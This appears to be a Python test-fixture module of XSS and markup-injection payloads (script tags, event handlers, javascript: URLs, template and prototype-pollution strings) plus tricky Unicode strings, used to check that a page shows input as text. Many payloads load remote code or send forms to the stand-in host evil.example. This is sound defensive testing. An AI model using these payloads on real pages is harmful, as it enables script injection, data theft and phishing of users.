"""Texts that attack a page or its layout. Each must arrive as it was typed and be shown as text.

`{n}` is the number of the text; whatever runs says so by `hit(n)`.
"""

from typing import Final

MARKUP: Final = (
    "<script>hit({n})</script>",
    "</p><script>hit({n})</script>",
    "<ScRiPt >hit({n})</sCrIpT>",
    "<scr<script>ipt>hit({n})</scr</script>ipt>",
    "<script src=//evil.example/{n}.js></script>",
    "<script type=module>import('//evil.example/{n}.js')</script>",
    "<img src=x onerror=hit({n})>",
    "<img src='//evil.example/{n}.png'>",
    "<img/src/onerror=hit({n})>",
    "<img srcset='//evil.example/{n}.png 1x'>",
    '"><img src=x onerror=hit({n})>',
    "'><img src=x onerror=hit({n})>",
    "<svg onload=hit({n})>",
    "<svg><script>hit({n})</script></svg>",
    "<svg><animate onbegin=hit({n}) attributeName=x dur=1s>",
    "<svg><use href='//evil.example/{n}.svg#x'></svg>",
    "<svg><a xlink:href='javascript:hit({n})'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:hit({n})'>x</mi></math>",
    "<iframe src='javascript:hit({n})'></iframe>",
    "<iframe srcdoc='<script>parent.hit({n})</script>'></iframe>",
    "<iframe src=//evil.example/{n}></iframe>",
    "<object data='javascript:hit({n})'></object>",
    "<embed src='//evil.example/{n}'>",
    "<link rel=stylesheet href='//evil.example/{n}.css'>",
    "<link rel=preload as=image href='//evil.example/{n}.png'>",
    "<link rel=dns-prefetch href='//evil{n}.example'>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "<style>body{{background:url(//evil.example/{n}.png)}}</style>",
    "<p style='background:url(//evil.example/{n}.png)'>x</p>",
    "<base href='//evil.example/{n}/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<meta http-equiv=refresh content='0;url=javascript:hit({n})'>",
    "<form action='//evil.example/{n}'><button>Send</button></form>",
    "<input autofocus onfocus=hit({n})>",
    "<textarea autofocus onfocus=hit({n})></textarea>",
    "<select autofocus onfocus=hit({n})></select>",
    "<body onload=hit({n})>",
    "<body onpageshow=hit({n})>",
    "<details open ontoggle=hit({n})><summary>x</summary></details>",
    "<video><source onerror=hit({n})></video>",
    "<audio src=//evil.example/{n}.mp3 autoplay onerror=hit({n})></audio>",
    "<marquee onstart=hit({n})>x</marquee>",
    "<dialog open>Enter your password</dialog>",
    "<a href='javascript:hit({n})'>tap here</a>",
    "<a href='https://evil.example/{n}'>tap here</a>",
    "<a href='tel:5550100'>call</a>",
    "<template><script>hit({n})</script></template>",
    "<noscript><img src=x onerror=hit({n})></noscript>",
    "<!--><img src=x onerror=hit({n})>-->",
    "<![CDATA[<script>hit({n})</script>]]>",
    "<?xml version='1.0'?><script>hit({n})</script>",
    "<x onclick=hit({n})>tap</x>",
    "<div id=exit>Exit now</div>",
    "<a id=exit href=//evil.example/{n}>Exit now</a>",
)
ADDRESSES: Final = (
    "https://evil.example/{n}",
    "www.evil.example/{n}",
    "javascript:hit({n})",
    "data:text/html,<script>parent.hit({n})</script>",
    "[tap here](https://evil.example/{n})",
    "mailto:someone@evil.example",
)
CODE: Final = (
    "'-hit({n})-'",
    '";hit({n});//',
    "${{hit({n})}}",
    "{{{{constructor.constructor('hit({n})')()}}}}",
    "\\u003cscript\\u003ehit({n})\\u003c/script\\u003e",
    "&lt;script&gt;hit({n})&lt;/script&gt;",
    "&#60;script&#62;hit({n})&#60;/script&#62;",
    "%3Cscript%3Ehit({n})%3C/script%3E",
    '{{"__proto__": {{"innerHTML": "<img src=x onerror=hit({n})>"}}}}',
    "%SETUP% %EXIT_SCRIPT% %DECOY%",
    "{name} {n} {names}",
)


def payloads() -> list[str]:
    """Return every attack with its own number in it."""
    raw = CODE[-1]
    return [
        text if text == raw else text.format(n=number)
        for number, text in enumerate((*MARKUP, *ADDRESSES, *CODE), 1)
    ]


SHAPES: Final = {
    "control characters": "a\x00b\x01c\x07d\x08e\x1bf\x7fg\x85h\x9bi",
    "terminal colours": "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "tabs and lines": "one\ttwo\nthree\n\n\nfour",
    "a lone carriage return's lines": "one\r\ntwo",
    "right to left": "مرحبا، أحتاج مساعدة",
    "right-to-left override": "safe \u202egnp.exe\u202c end",
    "isolates left open": "\u2066\u2067\u2068 still \u202b open",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f",
    "combining": "Z̸̢̛̖͔̘̘̥̭͉͍̯̞͈̮̻̓͆̏̾̐̕a̶̡̧̯̠̜͙̙̗͚̎̀l̷̢̡̛̰̼͉̞̳̲̦̽̌g̵̢̨̛̬̟͈̲̭̘̗̈́̂o̶̧̢̥̪̩̫͔͙̎̾̀",
    "emoji": "👍🏽 👩‍👩‍👧‍👦 🏳️‍🌈 🇲🇽 😭😭😭",
    "private and unassigned": "\ue000 \U000f0000 \u0378 \ufdd0",
    "ideographs and old scripts": "帮帮我 𒀀𒁀 ᚠᚢᚦ ꧁꧂",
    "a very long word": "w" * 900,
    "many lines": "\n".join(str(line) for line in range(60)),
    "spaces alone around a word": "   middle   ",
    "tags and variation": "🏴\U000e0067\U000e0062\U000e007f ☺︎ ☺️",
}
